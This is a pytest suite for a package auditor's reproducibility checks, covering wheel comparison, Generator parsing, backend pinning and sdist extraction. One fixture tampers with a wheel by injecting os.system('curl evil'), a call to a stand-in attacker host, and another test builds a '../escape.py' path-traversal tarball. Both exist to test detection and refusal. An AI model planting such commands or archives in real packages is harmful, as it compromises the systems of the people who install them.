"""The parts of ``repro`` that need no build: comparison, Generator parsing, pinning, safety, wheel-only releases."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from auditor.cli import main
from auditor.errors import InputError
from auditor.provenance.compare import DIFFERS, IDENTICAL, IDENTICAL_CONTENT, compare_wheels
from auditor.provenance.repro import (
    extract_sdist,
    parse_generator,
    pinned_requires,
    wheel_epoch,
    wheel_generator,
)
from tests.support.index import LocalIndex, build_wheel


def _rezip(data: bytes, *, date: tuple[int, int, int, int, int, int] | None = None,
           replace: dict[str, bytes] | None = None, reverse: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        infos = src.infolist()[::-1] if reverse else src.infolist()
        for info in infos:
            body = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=date or info.date_time), body)
    return out.getvalue()


def test_compare_identical_and_metadata_only() -> None:
    _, wheel, _ = build_wheel("alpha", "1.0")
    assert compare_wheels(wheel, wheel).result == IDENTICAL
    later = _rezip(wheel, date=(2024, 5, 6, 7, 8, 10), reverse=True)
    result = compare_wheels(wheel, later)
    assert result.result == IDENTICAL_CONTENT
    assert result.changed == [] and len(result.metadata_only) == result.files == 4


def test_compare_differs_lists_files_and_diffs_text() -> None:
    _, wheel, _ = build_wheel("alpha", "1.0")
    tampered = _rezip(wheel, replace={"alpha/__init__.py": b"import os\nos.system('curl evil')\n"})
    result = compare_wheels(wheel, tampered)
    assert result.result == DIFFERS
    assert result.changed == ["alpha/__init__.py"]
    assert "+os.system('curl evil')" in result.diffs["alpha/__init__.py"]
    assert result.digests["alpha/__init__.py"]["published"] == hashlib.sha256(b"").hexdigest()
    extra = io.BytesIO(tampered)
    with zipfile.ZipFile(extra, "a") as zf:
        zf.writestr("alpha/_native.so", b"\x7fELF\x00\x01")
    more = compare_wheels(wheel, extra.getvalue())
    assert more.only_rebuilt == ["alpha/_native.so"]
    assert "alpha/_native.so" not in more.diffs


@pytest.mark.parametrize(("line", "dist", "version"), [
    ("Generator: hatchling 1.25.0", "hatchling", "1.25.0"),
    ("Generator: setuptools (75.1.0)", "setuptools", "75.1.0"),
    ("Generator: bdist_wheel (0.43.0)", "wheel", "0.43.0"),
    ("Generator: flit 3.9.0", "flit-core", "3.9.0"),
    ("Generator: poetry-core 1.9.0", "poetry-core", "1.9.0"),
    ("Generator: pdm-backend (2.3.3)", "pdm-backend", "2.3.3"),
    ("Generator: maturin (1.7.4)", "maturin", "1.7.4"),
])
def test_generator_lines(line: str, dist: str, version: str) -> None:
    gen = parse_generator(f"Wheel-Version: 1.0\n{line}\nRoot-Is-Purelib: true\n")
    assert (gen.distribution, gen.version) == (dist, version)


def test_generator_unknown_and_from_wheel() -> None:
    assert parse_generator("Wheel-Version: 1.0\n").pin is None
    assert parse_generator("Generator: custom-tool\n").pin is None
    _, wheel, _ = build_wheel("alpha", "1.0")
    assert wheel_generator(wheel).raw == "mlaudit-tests"
    assert wheel_epoch(wheel) == 1577836800  # the LocalIndex wheels' fixed 2020-01-01 timestamps


def test_backend_pinned_to_generator_version() -> None:
    gen = parse_generator("Generator: hatchling 1.25.0")
    assert pinned_requires(["hatchling>=1.20", "hatch-vcs"], gen) == ["hatchling==1.25.0", "hatch-vcs"]
    setuptools_gen = parse_generator("Generator: bdist_wheel (0.43.0)")
    assert pinned_requires(["setuptools>=61"], setuptools_gen) == ["setuptools>=61", "wheel==0.43.0"]


def test_sdist_with_path_traversal_is_refused(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("../escape.py")
        info.size = 1
        tf.addfile(info, io.BytesIO(b"x"))
    with pytest.raises(InputError):
        extract_sdist(buf.getvalue(), "evil-1.0.tar.gz", tmp_path / "x")
    assert not (tmp_path / "escape.py").exists()


def test_wheel_only_release_is_not_reproducible_from_source(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MLAUDIT_CACHE_DIR", str(tmp_path))  # the stored result must not leak into other tests
    index = LocalIndex()
    index.add_wheel("alpha", "1.0")
    with index.serve() as url:
        code = main(["repro", "alpha==1.0", "--index-url", url, "--format", "json"])
    out = json.loads(capsys.readouterr().out)
    assert code == 1
    assert out["result"] == "not-reproducible-from-source"
    assert out["slsa"] == "neither"
    assert out["sdist"] is None
    from auditor.domain import Package, Report
    from auditor.provenance.summary import summarise

    report = Report()
    report.add_package(Package("alpha", "1.0", properties={"provenance": "missing"}))
    assert summarise(report, checked=True)["packages"] == {"alpha": "neither"}
    assert report.packages["alpha"].properties["repro"] == "not-reproducible-from-source"


def test_repro_usage_errors(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["repro", "alpha>=1.0"]) == 2
    assert main(["repro", "missing.whl"]) == 2
    index = LocalIndex()
    index.add_wheel("alpha", "1.0")
    with index.serve() as url:
        assert main(["repro", "alpha==9.9", "--index-url", url]) == 2
    assert "not on the index" in capsys.readouterr().err
